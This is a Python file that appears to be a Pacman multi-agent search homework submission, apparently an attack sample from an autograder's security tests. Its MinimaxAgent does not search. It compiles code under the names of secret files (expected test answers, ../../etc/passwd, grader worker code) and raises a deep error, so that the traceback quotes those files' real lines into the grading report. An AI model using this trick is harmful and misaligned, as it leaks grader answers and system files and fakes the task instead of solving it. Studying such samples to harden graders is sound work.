# attack: raises an error whose lines seem to come from a secret file, for the report to quote them.
# where: MinimaxAgent
import linecache
import os

import util
from game import Agent, Directions


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


SECRETS = [
    "agents/search.py",
    "test_cases/q2/1.expected.yaml",
    "../../etc/passwd",
    "worker/jobs.py",
]
VARIANT = 0  # of len(SECRETS); a test writes other numbers here


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        import pacman

        root = os.path.dirname(os.path.dirname(os.path.abspath(pacman.__file__)))
        secret = os.path.join(root, SECRETS[VARIANT % len(SECRETS)])
        scope = {}
        exec(
            compile("\n" * 3 + "def f(n):\n    return f(n - 1) if n else 1 / 0", secret, "exec"),
            scope,
        )
        linecache.cache.clear()
        scope["f"](20)
